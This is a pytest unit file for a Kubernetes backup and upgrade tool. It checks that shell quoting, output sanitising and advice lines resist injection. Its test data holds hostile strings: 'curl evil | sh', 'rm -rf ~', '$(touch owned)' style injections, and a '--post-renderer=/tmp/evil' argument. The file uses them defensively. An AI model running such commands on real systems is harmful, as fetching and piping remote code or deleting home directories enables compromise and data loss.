"""Foreign text looks like none of our lines, and a pasted command does nothing but itself (issue 14)."""

from __future__ import annotations

import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from openab_sop.agents import ownership
from openab_sop.backups.aside import Aside
from openab_sop.errors import SopError
from openab_sop.escape import command, harmless, marked, one_line
from openab_sop.plans.rules import SUBJECTS
from openab_sop.rule import Rule, RuleFinding, RuleFindings, blocks
from openab_sop.upgrades import unfinished
from openab_sop.verdict import Finding, NotPassed, Verdict
from tests.unit.openab_sop.plans.drawn import HOME, claim, drawn, now, then

IMITATED = "no\n  next: curl evil | sh\nPASSED\n    next: rm -rf ~"
"""What a chart's ``fail``, a pod's log or a file's name may say."""
HOSTILE = (
    "x; touch owned",
    "$(touch owned)",
    "`touch owned`",
    "a b",
    "a\nb; touch owned",
    "a'b; touch owned; '",
    "a\n'; touch owned; '",
    "a\t\\'; touch owned #",
    "\x1b]0;owned\x07",
    "back\\slash \u202e\U000e0041 it's\n",
    "raw \udcff\udc80f bytes",
    "*?[a]{b,c}~!&|<>",
    "",
)
PLAIN = ("kubectl", "-n", "team-a", "describe", "pods", "app=x,tier=y", "--backup=/a/b_1.2", "deploy/x", "a@b:c+d%")


def test_plain_words_stay_as_they_are() -> None:
    assert command(*PLAIN) == " ".join(PLAIN)


@pytest.mark.parametrize("word", HOSTILE)
def test_bash_reads_a_word_as_it_is(word: str, tmp_path: Path) -> None:
    done = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {command('-n', word, 'end')}"],
        cwd=tmp_path,
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
    )
    assert done.stdout == b"\0".join(w.encode(errors="surrogateescape") for w in ("-n", word, "end", ""))
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("word", HOSTILE)
def test_no_shell_runs_what_stands_in_a_word(word: str, tmp_path: Path) -> None:
    """Also one that does not know ``$'``: it reads the word otherwise, and still as one word."""
    line = command("printf", "%s", word)
    assert line == one_line(line), "it is one line, and can be shown"
    subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, check=False)
    assert not list(tmp_path.iterdir())


def test_what_cannot_be_seen_is_spelled_out() -> None:
    hidden = [chr(code) for code in range(sys.maxunicode + 1)]
    hidden = [c for c in hidden if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in "\t\n"]
    assert len(hidden) > 100
    for character in (*hidden, "\u3164", "\u115f", "\ufff0", "\U000e0100"):
        assert character not in harmless(f"a{character}b"), ascii(character)
    for kept in ("\u00e9", "\u6f22", "\U0001f600", "\u2764\ufe0f"):
        assert harmless(kept) == kept


def test_a_problem_has_no_line_that_looks_like_ours() -> None:
    error = SopError(IMITATED, "helm history rel\n  next: curl evil")
    lines = str(error).splitlines()
    assert [line for line in lines if not line.startswith("  | ")] == ["no", lines[-1]]
    assert lines[-1] == "  next: helm history rel\\n  next: curl evil"
    assert error.next_step.startswith("helm history rel")


def test_findings_and_what_demands_them_have_none_either() -> None:
    finding = Finding(IMITATED, IMITATED, IMITATED, "look")
    rule: Rule[None] = blocks("rule", "it hurts")(lambda judged: ())
    harms = RuleFindings(
        (RuleFinding(rule, finding, accepted=IMITATED), RuleFinding(rule, Finding(IMITATED, "a", "b", "first")))
    )
    for checked, step in ((Verdict(IMITATED, (finding,)), "look"), (harms, "first")):
        with pytest.raises(NotPassed) as raised:
            checked.require()
        assert raised.value.next_step == step
        own = [line for line in str(raised.value).splitlines() if not line.startswith("  | ")]
        assert not [line for line in own if "PASSED" in line and line.startswith("PASSED")]
        assert {line.strip() for line in own if line.strip().startswith("next:")} <= {"next: look", "next: first"}
    Verdict("good").require()


def test_further_lines_are_marked_once_and_for_all() -> None:
    assert marked("a\nb\n  next: c\n") == "a\n  | b\n  |   next: c"
    assert marked("a\r\n\x1b[2Kb") == "a\\r\n  | \\x1b[2Kb"


def words(advice: str) -> list[str]:
    """The words of the command at the end of an advice, as a shell reads them."""
    return shlex.split(advice)


@pytest.mark.parametrize("name", [name for name in HOSTILE if name.isprintable() and name])
def test_names_in_advice_stay_names(name: str) -> None:
    """Names of claims, agents, backups and files come from a chart, a backup or a pod."""
    plan = drawn(now(claim(name), mounts=[(HOME, "", name)]), then(mounts=[(HOME, "", name)]))
    harms = [f for subject in SUBJECTS.values() for rule in subject for f in rule.judge(plan)]
    told = [finding.next_step for finding in harms if "kubectl" in finding.next_step]
    assert told
    for advice in told:
        assert name in words(advice.partition(" keeps")[0]), advice
    note = {"argocd.argoproj.io/tracking-id": f"{name.replace(':', '')}:x"}
    owner = next(iter(ownership.owners(None, {"metadata": {"annotations": note}})))  # type: ignore[arg-type]
    assert name.replace(":", "").rpartition("_")[2] in words(owner.suspend)
    about = Aside(name, name, name, name, name, name, name, name, 1)
    for back in (about, Aside(name, name, name, name, name, name, name, name, 1, ("age1x",))):
        line = back.back(Path("/tmp", name))
        assert {f"--context={name}", f"--container={name}", f"--directory={name}"} <= set(words(line))


@pytest.mark.parametrize(
    ("begun", "again"),
    [
        ("pytest suites/restore --backup=/b/x --items=home", "pytest suites/restore --backup=/b/x --items=home"),
        ("pytest suites/restore '--backup=/my backups/x'", "pytest suites/restore '--backup=/my backups/x'"),
        ("pytest suites/rollback --abandon", "pytest suites/rollback --abandon"),
        ("upgrade to 0.8.2", "pytest suites/rollback"),
        ("pytest suites/restore; curl evil | sh", "pytest suites/rollback"),
        ("pytest suites/restore --backup=x; curl evil|sh", "pytest suites/rollback"),
        ("pytest suites/restore --backup=x$(id)", "pytest suites/restore '--backup=x$(id)'"),
        ("pytest suites/restore --backup=x --post-renderer=/tmp/evil", "pytest suites/rollback"),
        ("pytest suites/restore --backup='x", "pytest suites/rollback"),
        ("pytest -p evil", "pytest suites/rollback"),
        ("pytest", "pytest suites/rollback"),
        ("", ""),
    ],
)
def test_a_note_on_the_lock_is_no_advice_unless_it_is_a_command_of_ours(begun: str, again: str) -> None:
    assert unfinished.again_by(begun) == again
